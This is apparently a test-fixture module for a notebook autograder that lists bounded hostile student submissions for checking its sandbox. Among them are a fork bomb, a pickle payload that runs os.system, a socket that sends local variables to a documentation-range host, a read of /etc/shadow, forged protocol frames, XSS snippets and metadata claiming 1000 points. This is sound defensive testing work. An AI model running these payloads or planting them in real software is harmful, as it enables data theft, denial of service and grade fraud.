"""The hostile notebooks of the sample class: each a thing that students really hand in.

They are kept bounded, so that one of them run outside the sandbox by mistake is a nuisance and not
a disaster. All 45 kinds, the worst included, are in ``tests/hostile``.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any, NamedTuple

from autograder.outcome import Status

Notebook = dict[str, Any]


class Attack(NamedTuple):
    """What is done to a right notebook, and how the attacked question may end.

    ``body`` takes the place of one function's body; ``edit`` changes the notebook itself.
    """

    statuses: tuple[Status, ...]
    body: str = ""
    edit: Callable[[Notebook], None] | None = None


# Writes to every pipe and socket that it has, whatever its number.
FORGE = """\
import os, stat, struct
frame = b'{"values": [1e9], "faults": [null], "echoes": [], "id": 2, "text": ""}'
frame = struct.pack(">I", len(frame)) + frame
for number in range(64):
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            os.write(number, struct.pack(">Q", len(frame)) + frame)
    except OSError:
        pass
return 0.0
"""

PICKLE = """\
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("echo a pickle was loaded >&2",)
return np.array([Bomb()], dtype=object)
"""

NETWORK = """\
import socket
with socket.create_connection(("192.0.2.1", 80), timeout=2) as there:
    there.sendall(repr(locals()).encode())
return 0.0
"""

FORK_BOMB = """\
import os, time
for _ in range(500):
    if os.fork() == 0:
        time.sleep(5)
        os._exit(0)
return 0.0
"""

SCRIPTS = """\
<script>document.title = "attacked"</script>
<img src="nowhere" onerror="document.title = 'attacked'">
[a link](javascript:document.title='attacked') and <b onmouseover="alert(1)">bold text</b>

\u001b[31mred in a terminal\u001b[0m, and a formula after all: $\\|w\\| < 1$.
"""


def _marks(notebook: Notebook) -> list[dict[str, Any]]:
    """Return the nbgrader metadata of all cells that have it."""
    found = [cell["metadata"].get("nbgrader") for cell in notebook["cells"]]
    return [marks for marks in found if marks]


def _forge_metadata(notebook: Notebook) -> None:
    """Claim a thousand points for every graded cell, in a format of the future."""
    for marks in _marks(notebook):
        if marks["grade"]:
            marks.update(points=1000, schema_version=99)


def _repeat_ids(notebook: Notebook) -> None:
    """Copy every second cell, ids and all: what careless copying and pasting does."""
    cells = notebook["cells"]
    notebook["cells"] = [
        copy.deepcopy(cell) for k, cell in enumerate(cells) for _ in range(1 + k % 2)
    ]


def _write_scripts(notebook: Notebook) -> None:
    """Answer with scripts where a person will read."""
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade") and marks.get("solution"):
            cell["source"] = SCRIPTS


STOPPED = (Status.ERROR, Status.KILLED, Status.MEMORY, Status.TIMEOUT)
UNREAD = (Status.ERROR, Status.WRONG)

ATTACKS = {
    "exit": Attack((Status.KILLED,), "import os\nos._exit(0)\n"),
    "endless-loop": Attack((Status.TIMEOUT,), "while True:\n    pass\n"),
    "memory": Attack((Status.MEMORY,), "return float(np.ones(2**29).sum())\n"),
    "fork-bomb": Attack(STOPPED, FORK_BOMB),
    "output-flood": Attack((Status.OUTPUT,), "for _ in range(80):\n    print('x' * 2**20)\n"),
    "network": Attack((Status.ERROR,), NETWORK),
    "reading-files": Attack(UNREAD, "return open('/etc/shadow').read()\n"),
    "forged-protocol": Attack((Status.ERROR,), FORGE),
    "pickle": Attack(UNREAD, PICKLE),
    "script-in-answer": Attack((Status.OK,), edit=_write_scripts),
    "forged-metadata": Attack((Status.OK,), edit=_forge_metadata),
    "duplicate-ids": Attack((Status.OK,), edit=_repeat_ids),
}
